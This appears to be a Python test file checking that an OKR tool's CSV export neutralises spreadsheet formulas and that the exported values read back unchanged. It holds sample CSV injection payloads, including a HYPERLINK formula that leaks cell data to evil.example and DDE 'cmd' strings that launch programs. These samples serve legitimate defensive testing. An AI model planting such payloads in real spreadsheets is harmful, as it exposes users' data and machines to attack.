"""CSV export neutralises spreadsheet formulas; our own export reads back as the original."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import yaml

from coach.files import read_okr_file
from coach.files.csv_io import guard_cell, unguard_cell

HOSTILE = {
    "objective": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "kr": "+cmd|' /C calc'!A0",
    "owner": "@SUM(1+1)*cmd|' /C calc'!A0",
    "kr2": "-2+3+cmd|' /C notepad'!A0",
    "kr3": "\tsome text",
}


def test_guard_cell_cases():
    assert guard_cell("=1+1") == "'=1+1"
    assert guard_cell("@x") == "'@x" and guard_cell("\rx") == "'\rx"
    assert (
        guard_cell("-5") == "-5" and guard_cell("+3.5") == "+3.5" and guard_cell("-1e3") == "-1e3"
    )
    assert guard_cell("-5 customers") == "'-5 customers"
    assert guard_cell("Win 15 customers") == "Win 15 customers"
    for text in ("=1+1", "-5", "-x", "'=already quoted", "plain", "'plain"):
        assert unguard_cell(guard_cell(text)) == text or text == "'=already quoted"


def test_export_neutralises_formulas_and_reads_back(run_cli, tmp_path: Path):
    src = tmp_path / "okrs.yaml"
    src.write_text(
        yaml.safe_dump(
            {
                "cycle": "2026-Q1",
                "objectives": [
                    {
                        "title": HOSTILE["objective"],
                        "owner": HOSTILE["owner"],
                        "key_results": [
                            {"text": HOSTILE["kr"], "baseline": -5, "target": 10},
                            {"text": HOSTILE["kr2"], "owner": "Anna"},
                        ],
                    }
                ],
            },
            allow_unicode=True,
        ),
        encoding="utf-8",
    )
    out_csv = tmp_path / "okrs.csv"
    code, _, err = run_cli("export", "--file", str(src), "-o", str(out_csv))
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out_csv.read_text(encoding="utf-8"))))
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for row in rows:
        for col, value in row.items():
            if col in ("baseline", "target", "weight", "current", "confidence"):
                continue
            assert not value.startswith(dangerous), (col, value)
    assert rows[0]["objective"] == "'" + HOSTILE["objective"]
    assert rows[0]["baseline"] == "-5"  # a plain negative number stays a number

    again = read_okr_file(out_csv).cycle
    obj = again.objectives[0]
    assert obj.title == HOSTILE["objective"] and obj.owner == HOSTILE["owner"]
    assert [k.text for k in obj.key_results] == [HOSTILE["kr"], HOSTILE["kr2"]]
    assert obj.key_results[0].baseline == -5
